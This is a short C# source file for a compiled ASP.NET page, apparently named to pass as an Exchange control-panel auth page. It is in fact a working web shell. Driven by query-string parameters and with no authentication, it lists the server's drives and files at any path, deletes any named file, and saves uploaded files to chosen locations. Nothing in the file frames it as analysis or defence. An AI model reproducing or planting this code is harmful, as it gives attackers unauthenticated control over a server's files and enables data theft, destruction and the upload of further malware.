// A compiled file-manager page: drives, listing, deletion, upload, at paths from the request.
namespace ASP {
    public class ecp_auth_fm_aspx : System.Web.UI.Page {
        protected void Page_Load(object sender, System.EventArgs e) {
            foreach (string d in System.IO.Directory.GetLogicalDrives()) Response.Write(d);
            string p = Request.QueryString["p"];
            if (p == null) return;
            foreach (string f in System.IO.Directory.GetFiles(p)) Response.Write(f);
            if (Request.QueryString["del"] != null) System.IO.File.Delete(Request.QueryString["del"]);
            if (Request.Files.Count > 0) Request.Files[0].SaveAs(p + "\\" + Request.Files[0].FileName);
        }
    }
}
